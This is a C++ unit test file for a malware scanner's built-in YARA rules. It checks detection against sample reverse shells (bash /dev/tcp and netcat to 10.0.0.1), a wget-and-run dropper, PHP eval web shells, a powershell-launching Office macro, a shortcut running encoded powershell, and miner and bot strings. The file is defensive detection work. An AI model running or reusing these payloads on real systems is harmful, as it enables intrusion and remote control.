// SPDX-License-Identifier: Apache-2.0
#include "scan/yara_rules.h"

#include "scan/scan_test_tools.h"

namespace picket::scan {
namespace {

// picket's own rules against what each is for, and against what looks like it.
class OwnRules : public JudgeTest {
 protected:
  std::string rules_for(std::string_view bytes) const {
    std::string note, out;
    for (const Finding& match : content_.yara->matches(as_bytes(bytes), "x", 20, note))
      out += match.rule_id.substr(5) + " ";
    EXPECT_EQ(note, "");
    return out;
  }
};

const std::string kElf = std::string(
                             "\x7f"
                             "ELF\x02\x01\x01",
                             7) +
                         std::string(9, '\0');

TEST_F(OwnRules, ShellsThatCallOut) {
  const std::string rule = "script_reverse_shell ";
  EXPECT_EQ(rules_for("#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/443 0>&1\n"), rule);
  EXPECT_EQ(rules_for("exec 5<>/dev/tcp/$HOST/4444; cat <&5 | sh >&5\n"), rule);
  EXPECT_EQ(rules_for("import os,socket,pty\nos.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\n"),
            rule);
  EXPECT_EQ(rules_for("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 9001 > /tmp/f"),
            rule);
  EXPECT_EQ(rules_for("#!/bin/sh\n# waits until the port answers\n"
                      "until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do :; done\n"),
            "");
  EXPECT_EQ(rules_for("import os\nos.dup2(log.fileno(), 1)\n"), "");
}

TEST_F(OwnRules, ScriptsThatFetchAndStart) {
  EXPECT_EQ(rules_for("cd /tmp; wget http://203.0.113.9/x; chmod 777 x; nohup ./x &\n"),
            "script_fetches_and_starts ");
  EXPECT_EQ(rules_for("#!/bin/sh\ncurl -fsSL https://example.org/app.tar.gz -o /tmp/app.tar.gz\n"
                      "tar xf /tmp/app.tar.gz -C /opt\nchmod +x /opt/app/run\n"),
            "");
}

TEST_F(OwnRules, MinersAndBots) {
  EXPECT_EQ(rules_for(kElf + "stratum+tcp://pool:3333 donate-level randomx job_id"),
            "miner_program ");
  EXPECT_EQ(rules_for(kElf + "one that only knows of stratum+tcp:// and randomx"), "");
  EXPECT_EQ(rules_for("{\"donate-level\":1,\"pools\":[{\"url\":\"pool.example:3333\"}]}"),
            "miner_settings ");
  EXPECT_EQ(rules_for("a page about stratum+tcp:// pools"), "");
  EXPECT_EQ(rules_for(kElf + "/bin/busybox ECCHI\0applet not found\0/proc/net/tcp"),
            "");  // the literal ends at the first NUL
  EXPECT_EQ(rules_for(kElf + "/bin/busybox ECCHI applet not found /proc/net/tcp"), "device_bot ");
  EXPECT_EQ(rules_for(kElf + "applet not found"), "");
}

TEST_F(OwnRules, WebShells) {
  EXPECT_EQ(rules_for("<?php @eval(base64_decode($_POST['x'])); ?>"), "web_shell_php ");
  EXPECT_EQ(rules_for("<?php $_GET['f']($_POST['x']); ?>"), "web_shell_php ");
  EXPECT_EQ(rules_for("<?php echo htmlspecialchars($_GET['name']); eval($template); ?>"), "");
}

TEST_F(OwnRules, ProgramsThatSpreadOverDrives) {
  const std::string worm = "MZ autorun.inf [AutoRun] open= shell\\open\\command GetDriveTypeA";
  EXPECT_EQ(rules_for(worm), "windows_drive_worm ");
  EXPECT_EQ(rules_for("MZ a setup program that asks GetDriveTypeA"), "");
  EXPECT_EQ(rules_for("the text autorun.inf [autorun] open= GetDriveTypeA"), "");
}

TEST_F(OwnRules, DocumentsNotesAndShortcuts) {
  EXPECT_EQ(rules_for(std::string("\xd0\xcf\x11\xe0") +
                      " Sub AutoOpen() CreateObject(\"WScript.Shell\").Run \"powershell\""),
            "office_macro_that_starts_programs ");
  EXPECT_EQ(rules_for("All of your files have been encrypted. Pay 0.1 bitcoin for the decryption "
                      "key.\n"),
            "ransom_note ");
  EXPECT_EQ(rules_for("How to keep your files: are they encrypted at rest? Payment by card."), "");
  EXPECT_EQ(rules_for(std::string("L\0\0\0\x01\x14\x02\0", 8) + "powershell.exe -w hidden -enc AA"),
            "shortcut_that_starts_a_script ");
}

TEST_F(OwnRules, LibrariesThatHide) {
  std::string library = kElf;
  library += std::string("\x03\0\0readdir64\0dlsym\0/proc/self/fd/%d\0", 36);
  EXPECT_EQ(rules_for(library), "");  // calls it
  EXPECT_EQ(rules_for(library + std::string("\0readdir64\0", 11)), "preloaded_library_that_hides ");
}

TEST_F(OwnRules, TheTestFileOfAllScannersAndNoOrdinaryProgram) {
  // In two parts, so that this file does not hold it.
  EXPECT_EQ(rules_for(std::string("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR") +
                      "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
            "eicar_test_file ");
  EXPECT_EQ(rules_for(kElf + std::string(own_yara_rules())), "");  // what picket itself looks like
  for (const char* path : {"/bin/bash", "/usr/bin/python3", "/bin/busybox"}) {
    std::ifstream in(path, std::ios::binary);
    const std::string bytes{std::istreambuf_iterator<char>(in), {}};
    EXPECT_EQ(rules_for(bytes), "") << path;
  }
}

TEST(YaraRules, ReadsTheUsersFilesAndNamesMistakes) {
  process::TestFolder folder;
  folder.write("good/a.yar",
               "rule mine { meta: description = \"mine\" severity = \"critical\" "
               "strings: $a = \"needle\" condition: $a and filename == \"it\" }");
  const auto rules = YaraRules::compile({folder.path() + "/good"}, false);
  ASSERT_TRUE(rules) << rules.error().text();
  EXPECT_EQ((*rules)->size(), 1u);
  std::string note;
  const auto found = (*rules)->matches(as_bytes("a needle"), "/x/it", 5, note);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].severity, event::Severity::kCritical);
  EXPECT_EQ(found[0].rule_name, "mine");
  ASSERT_EQ(found[0].facts.size(), 1u);
  EXPECT_EQ(found[0].facts[0].name, "$a at 2");
  EXPECT_TRUE((*rules)->matches(as_bytes("a needle"), "/x/other", 5, note).empty());
  const std::string bad =
      folder.write("bad.yar", "rule a { condition: true }\nrule b { condition: }");
  const auto refused = YaraRules::compile({bad});
  ASSERT_FALSE(refused);
  EXPECT_NE(refused.error().message.find("2: "), std::string::npos) << refused.error().text();
  EXPECT_FALSE(YaraRules::compile({folder.write("inc.yar", "include \"good/a.yar\"")}));
}

}  // namespace
}  // namespace picket::scan
